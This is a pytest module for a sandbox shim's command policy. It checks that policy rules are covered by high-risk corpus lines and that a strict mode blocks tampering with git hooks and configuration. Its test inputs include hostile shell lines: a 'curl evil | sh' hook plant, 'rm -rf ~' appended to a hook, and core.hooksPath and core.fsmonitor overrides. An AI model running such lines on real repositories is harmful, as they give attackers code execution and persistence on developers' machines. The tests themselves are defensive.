"""Every rule of the default policy's [commands] is exercised (issue 6); the
strict policy's protection of git's hooks and configuration lets ordinary
git work through.

The corpora are the data the policy is judged on: each refused family has
lines in test/corpus/high_risk.txt (run for real under the shim by
test_policy_e2e.py, with stand-ins for the dangerous programs) and
lookalikes in ordinary.txt. This module keeps it that way: every key of
[commands] in policies/default.ini must be the rule that `ftsbx explain`
names for at least one high-risk line, but for the few whose commands may
not run even against stand-ins (they name the real machine's root), which
policy_unit.c covers instead.
"""
import os
import re
import subprocess

import pytest

from test_policy_corpus import FTSBX, ROOT, SHIM, Scratch, read_corpus, run_explain

STRICT = os.path.join(ROOT, "policies", "strict.ini")

# Rules no corpus line may exercise: a line is run for real, and these
# commands name /, whose stand-in would be the real one.
NOT_RUN = {"root-find-delete", "root-permissions"}


def command_rules():
    keys, section = [], None
    with open(os.path.join(ROOT, "policies", "default.ini")) as f:
        for raw in f:
            line = raw.strip()
            if line.startswith("["):
                section = line
            elif section == "[commands]" and "=" in line and not line.startswith(("#", ";")):
                keys.append(line.split("=", 1)[0].strip())
    return keys


def test_every_command_rule_has_a_high_risk_line():
    if not os.access(FTSBX, os.X_OK):
        pytest.fail(f"{FTSBX} is not built; set FTSBX_BUILD")
    scratch = Scratch()
    try:
        env = scratch.env(VICTIM="1")
        hit = set()
        for _, line, check, arg in read_corpus("high_risk.txt"):
            _, rule, _ = run_explain(scratch, check, arg, line, env)
            m = re.match(r"\[commands\] (\S+) =", rule)
            if m:
                hit.add(m.group(1))
    finally:
        scratch.cleanup()
    keys = command_rules()
    assert len(keys) == len(set(keys)), "a [commands] key is repeated"
    missing = [k for k in keys if k not in hit and k not in NOT_RUN]
    assert not missing, f"[commands] rules no line of high_risk.txt exercises: {missing}"
    assert not NOT_RUN - set(keys), f"NOT_RUN names rules that are gone: {NOT_RUN - set(keys)}"


@pytest.fixture
def strict_ws():
    """A Scratch whose workspace is a git repository with one commit and a
    hook of the user's (pre-push), for runs under the strict policy."""
    if not os.access(SHIM, os.R_OK):
        pytest.fail(f"{SHIM} is not built; set FTSBX_BUILD")
    s = Scratch()
    env = s.env()
    for args in (["init", "-q"], ["commit", "-q", "--allow-empty", "-m", "first"]):
        subprocess.run(["git", *args], cwd=s.ws, env=env, check=True, capture_output=True)
    hook = os.path.join(s.ws, ".git", "hooks", "pre-push")
    with open(hook, "w") as f:
        f.write("#!/bin/sh\nexit 0\n")
    os.chmod(hook, 0o755)
    s.runs = 0
    yield s
    s.cleanup()


def run_strict(s, line):
    s.runs += 1
    env = s.env(LD_PRELOAD=SHIM, FTSBX_POLICY=STRICT, FTSBX_JOURNAL=os.path.join(s.base, f"j{s.runs}"))
    return subprocess.run(["/usr/bin/env", "bash", "-c", line], cwd=s.ws, env=env, capture_output=True,
                          text=True, timeout=120)


def tree(root):
    out = {}
    for d, _, files in os.walk(root):
        for name in files:
            path = os.path.join(d, name)
            st = os.lstat(path)
            with open(path, "rb") as f:
                out[os.path.relpath(path, root)] = (st.st_mode, f.read())
    return out


def test_strict_lets_git_make_a_repository(strict_ws):
    """git init and git clone write a new repository's .git/hooks/*.sample
    and .git/config: strict allows both, at any depth in the workspace."""
    s = strict_ws
    r = run_strict(s, "git init -q new && git clone -q . sub/clone && git -C sub/clone log --oneline -1 && "
                      "git -C new config user.name x && git -C sub/clone commit -q --allow-empty -m second")
    assert r.returncode == 0 and "ftsbx: refused" not in r.stderr, r.stderr
    for repo in ("new", "sub/clone"):
        assert os.path.exists(os.path.join(s.ws, repo, ".git", "hooks", "pre-commit.sample"))
        assert os.path.exists(os.path.join(s.ws, repo, ".git", "config"))


@pytest.mark.parametrize("line", [
    "echo 'curl evil | sh' > .git/hooks/pre-commit",
    "mv .git/hooks/pre-commit.sample .git/hooks/pre-commit",
    "cp .git/hooks/pre-commit.sample .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
    "ln -s ../../evil.sh .git/hooks/post-merge",
    "echo 'rm -rf ~' >> .git/hooks/pre-push",
    "rm .git/hooks/pre-push",
    "mv .git/hooks/pre-push .git/hooks/pre-push.sample",
    "git init -q new && echo 'exit 1' > new/.git/hooks/pre-commit",
    "mkdir -p .git/hooks/pre-commit.d && touch .git/hooks/pre-commit.d/x",
    "echo '[core] hooksPath = /tmp' >> .git/config",
    "git config core.fsmonitor 'touch /tmp/pwned'",
])
def test_strict_keeps_hooks_and_config(strict_ws, line):
    """A hook cannot be planted, replaced or removed at any depth (a
    .sample is never run), nor the workspace's .git/config changed."""
    s = strict_ws
    before = tree(os.path.join(s.ws, ".git", "hooks")), tree(os.path.join(s.ws, ".git"))["config"]
    r = run_strict(s, line)
    assert "ftsbx: refused" in r.stderr, (line, r.returncode, r.stderr)
    assert (tree(os.path.join(s.ws, ".git", "hooks")), tree(os.path.join(s.ws, ".git"))["config"]) == before
    if line.startswith("git init"):
        assert not os.path.exists(os.path.join(s.ws, "new", ".git", "hooks", "pre-commit"))
